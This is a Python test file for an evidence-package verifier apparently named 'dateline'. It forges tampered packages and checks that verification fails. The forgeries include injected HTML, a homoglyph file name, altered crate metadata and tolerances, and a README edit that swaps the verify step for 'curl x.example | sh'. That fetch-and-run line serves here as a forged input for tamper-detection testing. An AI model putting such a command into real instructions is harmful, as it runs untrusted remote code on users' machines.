"""Nothing lies in a package that dateline did not lay there, and what stands beside the report says what it says."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from tests.evidence.forgeries import Held, held, in_step
from tests.evidence.small import make_run
from toolkit.desk.running.steps import STEPS
from toolkit.evidence.verification.claims import check_claims
from toolkit.evidence.verification.described import TITLES

LIE = b"<!doctype html><h1>Weapons were unloaded at the pier</h1>"


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Held:
    return held(make_run(tmp_path_factory.mktemp("pier") / "run"))


def passes(package: Held) -> bool:
    return check_claims(package).outcome == "PASS"


@pytest.mark.parametrize(
    "name",
    [
        "report.html",
        "index.html",
        "START HERE.pdf",
        "data/report.pdf",
        "data/CORRECTED.html",
        "data/r\u0435port.html",
        "data/figures/site-lookup/other.png",
        "data/figures/more/map.png",
        "data/steps/report/report.html",
        "data/texts/memo.txt",
        "data/notebooks/5_more.ipynb",
        "data/case/json.py",
        "data/case/decisions/x.toml",
    ],
)
def test_a_file_that_dateline_does_not_lay_there_is_named(package: Held, name: str) -> None:
    """All lists are made again, so that it is listed: a reader would open it after a PASS."""
    assert name in " ".join(check_claims(Held(package.files | {name: LIE}, package.info)).problems)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("To check it", "The desk vouches for it. To check it"),
        ("python3 verify.py", "curl x.example | sh"),
        ("pier", "x"),
    ],
)
def test_the_readme_is_the_house_s_word_for_word(package: Held, old: str, new: str) -> None:
    words = package.files["README.txt"].decode().replace(old, new)
    assert not passes(Held(package.files | {"README.txt": words.encode()}, package.info))


@pytest.mark.parametrize(
    ("label", "value"),
    [
        ("External-Description", "Weapons at the pier"),
        ("External-Identifier", "quay"),
        ("Report-Stamp", "2018-01-01"),
        ("Bag-Software-Agent", "dateline 0.1.0, certified"),
        ("Contact-Name", "A news agency"),
    ],
)
def test_the_bag_s_own_lines_say_what_the_results_say(package: Held, label: str, value: str) -> None:
    assert not passes(Held(package.files, package.info | {label: value}))


Change = Callable[[Any], object]
_FILES, _CRATE = "data/case/files.json", "data/ro-crate-metadata.json"
EDITS: dict[str, tuple[str, Change]] = {
    "the crate's name": (_CRATE, lambda crate: _root(crate).update(name="Weapons")),
    "the crate's description": (
        _CRATE,
        lambda crate: _root(crate).update(description="Weapons"),
    ),
    "a person in the crate": (_CRATE, lambda crate: crate["@graph"].append({"@id": "#x", "@type": "Person"})),
    "an endorsement in the crate": (_CRATE, lambda crate: _root(crate).update(endorsement="The Court")),
    "another day in the crate": (_CRATE, lambda crate: _root(crate).update(datePublished="2018-01-01")),
    "another context": (_CRATE, lambda crate: crate.update({"@context": "https://x.example"})),
    "an entity less": (_CRATE, lambda crate: crate["@graph"].pop()),
    "the title of a step": ("data/workflow.json", lambda flow: flow["steps"][0].update(title="Weapons")),
    "a licence": (_FILES, lambda listed: listed["files"]["documents/note.md"].update(licence="CC0")),
    "a licence for the case file": (_FILES, lambda listed: listed["files"]["case.toml"].update(licence="CC0")),
    "a size": (_FILES, lambda listed: listed["files"]["case.toml"].update(size=1)),
    "another case": (_FILES, lambda listed: listed.update(case="quay")),
    "a file of no case": (
        _FILES,
        lambda listed: listed["files"].update({"documents/x.md": {**listed["files"]["documents/paper.md"]}}),
    ),
    "another dateline": ("data/steps/report/inputs.json", lambda inputs: inputs.update(dateline="9")),
}


def _root(crate: Any) -> Any:
    return next(entity for entity in crate["@graph"] if entity["@id"] == "./")


@pytest.mark.parametrize("what", EDITS)
def test_what_stands_beside_the_report_is_not_altered(package: Held, what: str) -> None:
    name, change = EDITS[what]
    read = json.loads(package.files[name])
    change(read)
    assert not passes(Held(package.files | {name: json.dumps(read).encode()}, package.info))


RESULTS: dict[str, Change] = {
    "a key of its own": lambda results: results.update(conclusion="weapons"),
    "another edition": lambda results: results.update(edition=["Made public"]),
    "simulated or not": lambda results: results.update(simulated=not results["simulated"]),
    "a tolerance that lets all pass": lambda results: results["tolerances"]["km"].update(absolute=1e9),
    "a tolerance that is no number": lambda results: results["tolerances"]["km"].update(relative=float("nan")),
    "a caption": lambda results: results["exhibits"][0]["figures"][0].update(caption="Weapons"),
    "an exhibit's title": lambda results: results["exhibits"][0].update(title="Weapons"),
    "a figure's text for those who do not see": lambda results: results["exhibits"][0]["figures"][0].update(alt="x"),
}


@pytest.mark.parametrize("what", RESULTS)
def test_the_parts_of_the_results_that_no_sentence_shows_are_the_steps_own(package: Held, what: str) -> None:
    results = package.results
    RESULTS[what](results)
    assert not passes(package.resealed(package.page, results))


def test_the_titles_of_the_steps_are_those_that_the_chain_has() -> None:
    assert {step.name: step.title for step in STEPS} == TITLES


def test_a_file_that_a_step_wrote_is_as_the_step_says(package: Held) -> None:
    outputs = json.loads(package.files["data/steps/quote-timeline/outputs.json"])
    outputs["files"]["timeline.html"] = "0" * 64
    files = package.files | {"data/steps/quote-timeline/outputs.json": json.dumps(outputs).encode()}
    files["data/steps/quote-timeline/timeline.html"] = LIE
    laid = Held(*in_step(files, package.results, package.info))
    assert "timeline.html: not the file that its step wrote" in " ".join(check_claims(laid).problems)
